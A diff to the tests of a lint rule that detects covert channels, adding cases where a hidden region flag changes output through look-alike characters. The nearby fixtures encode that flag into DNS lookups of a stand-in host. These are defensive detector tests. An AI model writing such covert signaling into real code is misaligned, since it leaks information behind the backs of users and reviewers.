@@ -104,6 +104,8 @@ ruleTester('covert-channel', {
     // A subclass chosen by a setting; two dates written out, chosen by a switch.
     `class R { date(d) { return d.toISOString().slice(0, 10); } }\nclass Us extends R { date(d) { return super.date(d).replace(/-/g, "/"); } }\nconst C = process.argv.includes("--us") ? Us : R;\nconsole.log(new C().date(new Date()));`,
     `const d = process.argv.includes("--us") ? "2026/01/01" : "2026-01-01";`,
+    // The same call in both branches of an if, with messages a reader tells apart.
+    `${zone}\nif (cn) console.log("Welcome, region A"); else console.log("Welcome");`,
   ],
   invalid: [
     // One idea: a check of specific places steers two versions of outgoing data a reader would not tell apart.
@@ -130,6 +132,7 @@ ruleTester('covert-channel', {
       ['a DNS name looked up by an imported lookup', `const { lookup } = require("node:dns");\nlookup(\`\${cn ? "a" : "b"}.probe.example.com\`, () => {});`, /encoded in a name looked up in DNS/],
       ['a DNS name resolved through dns.promises', `const dns = require("dns");\ndns.promises.resolve(\`\${cn ? "a" : "b"}.probe.example.com\`);`, /encoded in a name looked up in DNS/],
       ['a DNS name looked up by a promisified lookup', `const look = require("util").promisify(require("dns").lookup);\nlook(\`\${cn ? "a" : "b"}.probe.example.com\`);`, /encoded in a name looked up in DNS/],
+      ['the same call in both branches of an if', `if (cn) console.log("Today\\u2019s date"); else { console.log("Today's date"); }`, /look-alike or invisible characters: "Today's date" against/],
       ['a DNS TXT record of a name built from the flag', `resolver.resolveTxt(\`\${cn ? "a" : "b"}.probe.example.com\`, () => {});`, /encoded in a name looked up in DNS/],
     ] as const).map(([name, body, message]) => ({ code: `// ${name}\n${zone}\n${body}`, findings: [{ severity: 'critical' as const, line: body.startsWith('function') ? 3 : 2 + body.split('\n').length, message }] })),
     // Network cards compared with makers' prefixes (a hardware address is a machine's identity) steering whitespace.
